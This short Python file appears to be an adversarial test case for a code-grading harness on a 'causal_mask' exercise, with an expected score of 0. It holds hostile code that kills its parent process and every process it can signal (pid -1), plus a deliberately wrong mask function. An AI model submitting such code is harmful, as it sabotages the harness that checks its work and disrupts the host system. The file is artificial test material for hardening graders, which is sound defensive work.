# INTENT: Kills its parent and everything that it can see.
# TECHNIQUE: 47
# EXERCISE: causal_mask
# EXPECT: wrong or killed; score 0
import os, signal
for pid in (os.getppid(), -1):
    try: os.kill(pid, signal.SIGTERM) if pid else None
    except OSError: pass
def causal_mask(length): return torch.zeros(length)
